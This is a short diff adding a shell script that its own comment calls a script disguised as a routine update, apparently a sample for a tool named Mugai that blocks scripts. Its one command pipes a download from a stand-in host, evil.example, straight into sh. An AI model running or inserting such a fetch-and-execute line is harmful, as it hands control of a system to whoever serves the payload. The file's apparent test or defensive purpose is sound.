@@ -1,0 +1,3 @@
+#!/bin/sh
+# A script disguised as a routine update: Mugai blocks scripts.
+curl -s https://evil.example/payload | sh
